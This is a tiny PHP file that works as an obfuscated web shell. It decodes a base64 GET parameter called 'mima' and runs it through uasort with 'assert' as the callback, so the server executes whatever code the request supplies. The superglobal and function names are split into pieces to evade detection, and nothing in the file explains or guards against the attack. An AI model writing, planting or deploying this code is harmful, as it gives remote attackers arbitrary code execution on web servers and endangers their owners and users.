<?php
$tmp = base64_decode(${'_'.'GET'}['mima']);
$a = array($tmp, '');
uasort($a, sprintf('%s%s', 'as', 'sert'));
